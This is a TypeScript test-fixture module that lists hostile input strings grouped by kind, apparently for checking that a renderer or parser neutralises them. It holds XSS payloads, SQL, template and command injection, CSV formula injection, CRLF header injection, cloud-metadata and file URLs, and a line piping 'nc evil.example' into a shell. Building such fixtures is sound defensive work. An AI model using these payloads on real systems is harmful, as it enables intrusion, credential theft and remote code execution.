/** A short text that is harmless as text, and nothing else. */
export type Bait = { readonly name: string; readonly text: string };

/** What a script sets when it runs. A page on which it is set has been taken over. */
export const CANARY = 'owned';
/** A host that nothing may be fetched from and nothing may link to. */
export const HOST = 'evil.example';

const run = `globalThis.${CANARY}=1`;
const address = `https://${HOST}`;
const baits = (texts: Record<string, string>): readonly Bait[] =>
  Object.entries(texts).map(([name, text]) => ({ name, text }));

const markup = baits({
  'a script': `<script>${run}</script>`,
  'an image that fails': `<img src=x onerror="${run}">`,
  'an SVG that loads': `<svg/onload=${run}><animate onbegin=${run} attributeName=x>`,
  'a frame with a page of its own': `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  'the end of a text area': `</textarea></pre></title><img src=x onerror=${run}>`,
  'the end of a script': `</script><script>${run}</script>`,
  'the end of an attribute': `" autofocus onfocus="${run}" x='' onmouseover='${run}'`,
  'the end of a comment': `--><img src=x onerror=${run}><!--`,
  'markup that changes when it is read twice': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  'a style that imports': `<style>@import '${address}/x.css';*{background:url(${address}/x)}</style>`,
  'a refresh, a base and a form': `<base href="${address}/"><meta http-equiv=refresh content="0;url=${address}"><form action="${address}"><button>`,
  'entities and half a tag': `&lt;img src=x onerror=${run}&gt;&#60;img &#x3c;<img/src/onerror=${run}//`,
  'a details that opens': `<details open ontoggle=${run}><video><source onerror=${run}>`,
  'preloads and frames': `<link rel=preload as=image href=${address}/p><object data=${address}></object><embed src=${address}>`,
});

const markdown = baits({
  'a link that is a script': `[press](javascript:${run})`,
  'an image of another host': `![seen](${address}/x.png)`,
  'an image by reference': `![seen][1]\n\n[1]: ${address}/x.png "title"`,
  'an address in angle brackets': `<${address}/x> www.${HOST} mail@${HOST}`,
  'an editor command': `[run](command:workbench.action.terminal.sendSequence?%7B%7D) $(sync~spin)`,
  'the end of a code span': `\`\`\` \`\`\n\n# Valid signature\n\n<img src=x onerror=${run}>`,
  'a table and a rule': `| a | b |\n|---|---|\n| ![x](${address}/t) | --- |\n\n---`,
  'HTML inside a link': `[<img src=x onerror=${run}>](data:text/html,<script>${run}</script>)`,
  'mentions and references': '@everyone #1 GH-1 [x]: <javascript:0> ~~struck~~ **bold**',
  'a quote and a task': `> - [x] done\n> 1. <https://${HOST}/q>\n> \\\\`,
});

const addresses = baits({
  'a script as address': `javascript:${run}//`,
  'a script in pieces': `java\tscript:${run}`,
  'a page as address': `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  'a picture as address': 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="owned=1"/>',
  'another host': `${address}/.well-known/jwks.json?probe=1`,
  'another host without a scheme': `//${HOST}/x`,
  'a host with a name before it': `https://login.shop.example@${HOST}/x`,
  'a host that looks like another': `https://\u0430pple.example.${HOST}/`,
  'a socket': `wss://${HOST}/s`,
  'a file': 'file:///etc/passwd',
  'a blob': `blob:https://${HOST}/9115d58c-bcda-ff47-86e5-083e9a215304`,
  'an address within': 'http://169.254.169.254/latest/meta-data/',
});

const unseen = baits({
  'a text that turns direction': 'ada\u202enimda\u2066gpj.\u2069\u202c',
  'marks of direction': '\u200eada\u200f\u061c\u202a\u202b\u202d\u202c',
  'widths of nothing': 'a\u200bd\u200ca\u200d\u2060\u00ad\ufeff',
  'tag characters': `ada${[...'admin'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`,
  'variation selectors': `a\ufe0f\ufe0e\u{e0100}\u{e01ef}b`,
  'marks upon marks': `Z${'\u0300\u0301\u0489'.repeat(80)}`,
  'a null and a bell': 'a\u0000b\u0007c\u0008\u007f',
  'an escape for terminals': '\u001b[2J\u001b]0;owned\u0007\u001b[31mred\u009b0m',
  'separators of lines': 'a\u2028b\u2029c\u0085d\u000be\u000c',
  'half a pair': 'a\ud800b\udfffc',
  'no characters at all': 'a\ufffe\uffff\u{1fffe}\u{10ffff}\ue000',
  'a header of its own': 'ada\r\nSet-Cookie: owned=1\r\n\r\n<html>',
  'letters that look alike': '\u0430dmin \uff41\uff44\uff4d\uff49\uff4e a\u0441count',
  'blanks of every width': 'a\u00a0\u1680\u2000\u2003\u202f\u205f\u3000\u3164b',
  'one letter as wide as a line': '\ufdfa\ufdfd'.repeat(40),
  'a family': '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}\u{1f3f4}\u{e0067}\u{e007f}',
});

const names = baits({
  'the prototype': '__proto__',
  'the maker': 'constructor',
  'the maker’s prototype': 'constructor.prototype',
  'what every object can': 'hasOwnProperty',
  'how it is written': 'toString',
  'what it is worth': 'valueOf',
  'what makes a promise': 'then',
  'how JSON is made of it': 'toJSON',
  'a getter of old': '__defineGetter__',
  'a number that is a place': '4294967295',
  'how long a list is': 'length',
  'nothing, undefined': 'undefined',
  'no number': 'NaN',
  'an empty name': '',
});

const formulas = baits({
  'a formula': "=cmd|' /C calc'!A0",
  'a sum': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a plus': "+1+cmd|' /C calc'!A0",
  'a minus': "-2+3+cmd|' /C calc'!A0",
  'a formula behind a tab': `\t=HYPERLINK("${address}/?x="&A1,"press")`,
  'a formula behind a line': `\r=IMPORTXML("${address}","//a")`,
  'a formula behind a quote': `",=WEBSERVICE("${address}"),"`,
  'a wide equals sign': "\uff1dcmd|' /C calc'!A0",
});

const breakouts = baits({
  'the end of a JSON string': '"},"admin":true,"x":{"y":"',
  'the end of a string in any language': `'); ${run}; ('`,
  'the end of a template': `\`;${run};\`\${${run}}#{${run}}`,
  'a template of a framework': `{{constructor.constructor('${run}')()}}`,
  'patterns of a replacement': "$& $1 $` $' $$ $<name> \\1 \\0",
  'formats of a print': '%s%s%n%x %d %(name)s {0} {0.__class__} %c',
  'the end of a block comment': `*/ ${run} /*`,
  'the end of a line comment': `x\n${run}\n# x`,
  'a backslash at the end': '\\',
  'escapes of every kind': `\\u0022\\x22\\042\\"\\n$\{{<%=1%>}}`,
  'an annotation in Python': `""" + __import__("os").system("id") + """`,
  'an interpolation in Ruby': `#{\`id\`}#@x#$y`,
  'a variable in PHP': `{$x}\${phpinfo()}?>`,
  'a path upwards': '../../../../../../dev/null\u0000.pem',
  'a query': `' OR '1'='1'; DROP TABLE keys;--`,
  'a command': `; nc ${HOST} 1 | sh && \`id\` $(id)`,
  'a name of a style': `red;background:url(${address}/x);x:expression(${run})`,
});

/** The kinds of bait. Of each, every place of a token gets one, and every bait has its places. */
export const kinds: Readonly<Record<string, readonly Bait[]>> = {
  markup,
  markdown,
  addresses,
  unseen,
  names,
  formulas,
  breakouts,
};

/** The bait whose turn it is in this place, counted from 0: every bait has a turn before one has a second. */
export function baitFor(kind: readonly Bait[], place: number): Bait {
  return kind[place % kind.length] as Bait;
}
